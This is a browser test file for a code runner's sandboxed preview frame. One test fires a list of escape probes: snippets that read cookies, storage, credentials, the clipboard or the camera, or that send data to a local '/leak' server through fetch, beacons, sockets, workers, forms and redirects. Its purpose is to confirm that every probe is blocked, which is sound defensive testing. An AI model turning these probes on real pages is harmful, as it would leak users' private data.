import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, FrameLocator, Page } from '@playwright/test';
import { afterAll, beforeAll, describe, expect, inject, test, vi } from 'vitest';
import { openPreview, previewEvents, previewTexts } from './harness/preview-page.ts';
import { openBrowser, openRunner } from './harness/runner-page.ts';

const PATIENCE = { timeout: 60_000, interval: 100 };
const PIXEL =
  '<svg xmlns="http://www.w3.org/2000/svg" width="7" height="5"><rect width="7" height="5" fill="red"/></svg>';

/** What a page tries to get out by; each either answers with something or throws. */
const PROBES: Readonly<Record<string, string>> = {
  cookie: 'return document.cookie',
  'setting a cookie': "document.cookie = 'a=1'; return document.cookie",
  localStorage: 'return localStorage.length + 1',
  sessionStorage: 'return sessionStorage.length + 1',
  indexedDB:
    "return await new Promise((ok, no) => { const r = indexedDB.open('x'); r.onsuccess = () => ok('db'); r.onerror = no; })",
  caches: "return await caches.open('x')",
  'private files': 'return await navigator.storage.getDirectory()',
  'the app’s page': 'return parent.document.title',
  'the app’s address': 'return parent.location.href',
  'the top page': "top.location.href = OUT + 1; return 'moved'",
  'the runner beside it': 'return parent.frames[0] !== self && parent.frames[0].document',
  fetch: 'return (await fetch(OUT + 2)).status',
  'fetch of the app':
    "const r = await fetch(BASE, { credentials: 'include' }); return (await r.text()).includes('Runner tests')",
  'fetch without reading': "return (await fetch(OUT + 3, { mode: 'no-cors' })).type",
  'kept alive':
    "return (await fetch(OUT + 4, { keepalive: true, method: 'POST', body: 'x', mode: 'no-cors' })).type",
  sendBeacon: "navigator.sendBeacon(OUT + 5, 'x'); return undefined",
  XMLHttpRequest: "const x = new XMLHttpRequest(); x.open('GET', OUT + 6, false); x.send(); return x.status",
  WebSocket:
    "return await new Promise((ok, no) => { const s = new WebSocket(OUT.replace('http', 'ws') + 7); s.onopen = () => ok('open'); s.onerror = no; })",
  EventSource:
    'return await new Promise((ok, no) => { const s = new EventSource(OUT + 8); s.onopen = () => ok(1); s.onerror = no; })',
  image:
    'return await new Promise((ok, no) => { const i = new Image(); i.onload = () => ok(1); i.onerror = no; i.src = OUT + 9; })',
  'image in text': "document.body.insertAdjacentHTML('beforeend', `<img src='${OUT}10'>`); return undefined",
  script:
    'return await new Promise((ok, no) => { const s = document.createElement("script"); s.src = OUT + 11; s.onload = ok; s.onerror = no; document.head.append(s); })',
  style:
    'return await new Promise((ok, no) => { const l = document.createElement("link"); l.rel = "stylesheet"; l.href = OUT + 12; l.onload = ok; l.onerror = no; document.head.append(l); })',
  'import in a style':
    "document.head.insertAdjacentHTML('beforeend', `<style>@import '${OUT}13'; body { background: url(${OUT}14) }</style>`); return undefined",
  font: "await new FontFace('x', `url(${OUT}15)`).load(); return 'loaded'",
  'dynamic import': 'return await import(OUT + 16)',
  'a frame inside':
    "const f = document.createElement('iframe'); f.src = OUT + 17; document.body.append(f); await new Promise((ok) => setTimeout(ok, 300)); return undefined",
  'an empty frame':
    "const f = document.createElement('iframe'); document.body.append(f); return (await f.contentWindow.fetch(OUT + 18)).status",
  'a frame of text':
    "const f = document.createElement('iframe'); f.srcdoc = `<img src='${OUT}19'>`; document.body.append(f); await new Promise((ok) => setTimeout(ok, 300)); return undefined",
  'a popup': 'return open(OUT + 20)',
  prefetch:
    "document.head.insertAdjacentHTML('beforeend', `<link rel=prefetch href='${OUT}22'><link rel=preload as=image href='${OUT}23'>`); return undefined",
  'a plug-in':
    "document.body.insertAdjacentHTML('beforeend', `<object data='${OUT}24'></object><embed src='${OUT}25'>`); return undefined",
  'a worker':
    "const w = new Worker(URL.createObjectURL(new Blob([`fetch('${OUT}26').then((r) => postMessage(r.status), () => postMessage(0))`]))); return await new Promise((ok) => { w.onmessage = (m) => ok(m.data); })",
  'a service worker': 'return await navigator.serviceWorker.register(OUT + 27)',
  ping: "document.body.insertAdjacentHTML('beforeend', `<a id=p href='#x' ping='${OUT}28'>x</a>`); document.querySelector('#p').click(); return undefined",
  'the policy taken away':
    "document.querySelectorAll('meta').forEach((m) => m.remove()); return (await fetch(OUT + 29)).status",
  'the app by message': "parent.postMessage({ kind: 'ended' }, '*'); return undefined",
  'the session of the app': "new BroadcastChannel('probe').postMessage('leak'); return undefined",
  credentials: 'return await navigator.credentials.get({ password: true })',
  'a place': 'return await new Promise((ok, no) => navigator.geolocation.getCurrentPosition(ok, no))',
  'the clipboard': 'return await navigator.clipboard.readText()',
  'a camera': 'return await navigator.mediaDevices.getUserMedia({ video: true })',
};

/** What ends the page that tries it, whatever comes of it. */
const LEAVING: readonly string[] = [
  "document.body.insertAdjacentHTML('beforeend', `<form id=f action='${OUT}21' method=post><input name=a value=b></form>`); document.querySelector('#f').submit();",
  'location.href = OUT + 30;',
  "document.head.insertAdjacentHTML('beforeend', `<meta http-equiv=refresh content='0;url=${OUT}31'>`);",
];

describe('a preview', () => {
  let browser: Browser;
  let page: Page;
  const base = inject('pageUrl');

  beforeAll(async () => {
    browser = await openBrowser();
    page = await openRunner(browser, base);
  });

  afterAll(async () => {
    await browser.close();
  });

  const shown = (): FrameLocator => page.frameLocator('iframe[title^="Preview"]');
  /** Not by the driver's own click, nor before it is answered: the frame gives way to the next. */
  const followed = (selector: string): Promise<void> =>
    shown()
      .locator(selector)
      .evaluate((element) => {
        setTimeout(() => (element as HTMLElement).click());
      });
  const stdout = async (): Promise<string | undefined> => (await previewTexts(page))['stdout'];

  test('joins the session’s files: styles, scripts, modules, images, data', async () => {
    const files = {
      'pages/index.html': `<!doctype html>
<title>Shop</title>
<link rel="stylesheet" href="../css/shop.css">
<style>p { background: url(../img/dot.svg) }</style>
<h1>Shop</h1>
<img id="still" src="../img/dot.svg"><p id="list"></p>
<script src="first.js"></script>
<script>console.log('inline', first, document.readyState);</script>
<script type="module">
  import { total } from '../lib/total.js';
  const rows = await (await fetch('../data/rows.json')).json();
  document.querySelector('#list').textContent = total(rows);
  const picture = new Image();
  picture.onload = () => console.log('picture', picture.naturalWidth);
  picture.src = '../img/dot.svg';
  document.body.insertAdjacentHTML('beforeend', '<img id="late" src="../img/dot.svg">');
  const lazy = await import('../lib/lazy.js');
  console.log('module', lazy.word, import.meta.url.endsWith('.js'));
</script>`,
      'pages/first.js': 'var first = "first";',
      'css/shop.css': "@import 'colours.css'; h1 { font-size: 40px }",
      'css/colours.css': 'h1 { color: rgb(1, 2, 3) }',
      'img/dot.svg': PIXEL,
      'lib/total.js':
        "import { plus } from './plus.js'; export const total = (rows) => rows.reduce(plus, 0);",
      'lib/plus.js': 'export const plus = (a, b) => a + b;',
      'lib/lazy.js': "export const word = 'lazy';",
      'data/rows.json': '[1, 2, 3]',
    };
    await openPreview(page, files, 'pages/index.html');
    await vi.waitFor(async () => {
      const text = await stdout();
      expect(text).toContain('inline first loading');
      expect(text).toContain('module lazy true');
      expect(text).toContain('picture 7');
    }, PATIENCE);
    expect(await shown().locator('#list').textContent()).toBe('6');
    const style = await shown()
      .locator('h1')
      .evaluate((h1) => [getComputedStyle(h1).fontSize, getComputedStyle(h1).color]);
    expect(style).toEqual(['40px', 'rgb(1, 2, 3)']);
    await vi.waitFor(async () => {
      const widths = await shown()
        .locator('img')
        .evaluateAll((images) => images.map((image) => (image as HTMLImageElement).naturalWidth));
      expect(widths).toEqual([7, 7]);
    }, PATIENCE);
    expect((await previewTexts(page))['stderr']).toBe('');
  });

  test('shows errors with their place in the person’s own files', async () => {
    const files = {
      'index.html': `<body>
  <script>
    console.warn('careful', { a: [1] }, document.body);
    setTimeout(() => missing(), 1);
  </script>
  <script type="module">
    import './part.js';
    throw new TypeError('in a module');
  </script>
</body>`,
      'part.js': "Promise.reject(new Error('nobody'));",
    };
    await openPreview(page, files);
    await vi.waitFor(async () => {
      const { stderr } = await previewTexts(page);
      expect(stderr).toContain('careful { a: [ 1 ] } <body>');
      expect(stderr).toContain('index.html:4:22');
      expect(stderr).toContain('ReferenceError: missing is not defined');
      expect(stderr).toContain('index.html:8:11');
      expect(stderr).toContain('part.js:1:16');
    }, PATIENCE);
  });

  test('follows links between pages, each with a fresh state, and no others', async () => {
    const files = {
      'index.html': '<script>var seen = 1;</script><a href="about/#team">About</a>',
      'about/index.html':
        '<script>console.log("about", typeof seen, location.hash)</script><a id="out" href="https://example.org/">Out</a><a href="../index.html">Home</a><form action="../index.html"><button>Send</button></form>',
    };
    await openPreview(page, files);
    await followed('text=About');
    await vi.waitFor(async () => expect(await stdout()).toContain('about undefined #team'), PATIENCE);
    await followed('#out');
    await vi.waitFor(
      async () =>
        expect((await previewTexts(page))['notice']).toContain(
          'https://example.org/ is not a page of this session',
        ),
      PATIENCE,
    );
    await followed('text=Send');
    await shown().getByText('About').waitFor();
    expect(await previewEvents(page, true)).toContain('stopped');
    expect(await page.locator('iframe[title^="Preview"]').count()).toBe(0);
  });

  test('that hangs or floods is stopped, and the next one works', async () => {
    await openPreview(page, {
      'index.html':
        '<script>console.log("begun"); setTimeout(() => { for(;;) console.log("x".repeat(1000)); }, 50);</script>',
    });
    await vi.waitFor(
      async () => expect((await previewTexts(page))['notice']).toContain('Output was cut here'),
      PATIENCE,
    );
    expect(await previewEvents(page, true)).toContain('stopped');
    await openPreview(page, { 'index.html': '<script>console.log("next")</script>' });
    await vi.waitFor(async () => expect(await stdout()).toBe('next\n'), PATIENCE);
  });

  test('cannot get out', async () => {
    const reached: string[] = [];
    const outside = createServer((request, response) => {
      reached.push(request.url ?? '');
      response.writeHead(200, {
        'Access-Control-Allow-Origin': '*',
        'Cross-Origin-Resource-Policy': 'cross-origin',
      });
      response.end('x');
    });
    await new Promise<void>((resolve) => {
      outside.listen(0, '127.0.0.1', resolve);
    });
    try {
      const address = `http://127.0.0.1:${(outside.address() as AddressInfo).port}/leak`;
      await page.evaluate(() => {
        document.cookie = 'secret=1';
        localStorage.setItem('secret', '1');
      });
      const script = `const BASE = ${JSON.stringify(base)}; const OUT = ${JSON.stringify(address)};
const probes = {${Object.entries(PROBES)
        .map(([name, body]) => `${JSON.stringify(name)}: async () => { ${body} }`)
        .join(',\n')}};
const { setTimeout } = globalThis;
for (const [name, probe] of Object.entries(probes)) {
  try {
    const got = await Promise.race([probe(), new Promise((ok) => setTimeout(ok, 3000))]);
    console.log(got ? 'REACHED ' + name + ': ' + String(got) : 'held ' + name);
  } catch { console.log('held ' + name); }
}`;
      await openPreview(page, {
        'index.html': '<body><script type="module" src="probes.js"></script></body>',
        'probes.js': script,
      });
      await vi.waitFor(
        async () =>
          expect((await stdout())?.match(/^(?:held|REACHED) /gm) ?? []).toHaveLength(
            Object.keys(PROBES).length,
          ),
        { ...PATIENCE, timeout: 120_000 },
      );
      expect((await stdout())?.split('\n').filter((line) => line.startsWith('REACHED'))).toEqual([]);
      for (const probe of LEAVING) {
        const leave = `<body><script>const OUT = ${JSON.stringify(address)}; console.log('leaving'); ${probe}</script>`;
        await openPreview(page, { 'index.html': leave });
        await vi.waitFor(async () => expect(await stdout()).toContain('leaving'), PATIENCE);
        await openPreview(page, {
          'index.html': '<script>setTimeout(() => console.log("next"), 300)</script>',
        });
        await vi.waitFor(async () => expect(await stdout()).toBe('next\n'), PATIENCE);
      }
      expect(reached).toEqual([]);
      expect(page.url()).toBe(base);
    } finally {
      outside.closeAllConnections();
      outside.close();
    }
  });
});
